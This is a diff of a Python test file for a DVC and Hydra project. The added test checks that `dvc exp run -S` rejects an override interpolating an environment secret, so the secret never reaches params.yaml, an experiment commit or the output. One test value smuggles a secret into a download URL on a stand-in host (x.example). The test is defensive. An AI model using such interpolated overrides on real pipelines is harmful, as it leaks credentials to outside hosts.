@@ -123,8 +123,28 @@ def test_a_flow_refuses_interpolations_before_dvc_resolves_them():
     common.refuse_interpolations(["preset=ci", "ul.loss_factor=1.5"])
 
 
+def test_dvc_exp_run_refuses_an_interpolation_before_params_yaml_is_written(tmp_path):
+    """`dvc exp run -S` composes and resolves with Hydra itself; the repository's Hydra plugin
+    (hydra_plugins/ul_params_are_data.py) makes that resolution refuse, so the secret never
+    reaches params.yaml or an experiment commit."""
+    from project import copy_project, sh
+
+    repo = copy_project(tmp_path)
+    before = (repo / "params.yaml").read_bytes()
+    hostile = "data.source=https://x.example/${oc.env:UL_TEST_SECRET}.tgz"
+    r = sh(["dvc", "exp", "run", "-S", hostile], repo, check=False, UL_TEST_SECRET="hunter2")
+    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("ERROR")]
+    assert r.returncode != 0 and len(errors) == 1, r.stderr
+    assert "data.source='https://x.example/${oc.env:UL_TEST_SECRET}.tgz': interpolations" in errors[0]
+    assert "hunter2" not in r.stdout + r.stderr
+    assert (repo / "params.yaml").read_bytes() == before
+    assert sh(["dvc", "exp", "list", "--all-commits"], repo).stdout.strip() == ""
+    assert sh(["git", "status", "--porcelain"], repo).stdout == ""
+
+
 def test_a_secret_value_in_params_stops_the_stage_naming_the_variable_only(tmp_path, capsys, monkeypatch, ci_params):
-    """What `dvc exp run -S x='${oc.env:...}'` leaves behind (DVC resolves it): the stage refuses it."""
+    """A secret's value that reached params.yaml some other way (pasted, composed by another tool):
+    the stage refuses it, naming the variable and never the value."""
     from ul.stages import fetch
 
     monkeypatch.setenv("MY_API_TOKEN", "s3cr3t-value")
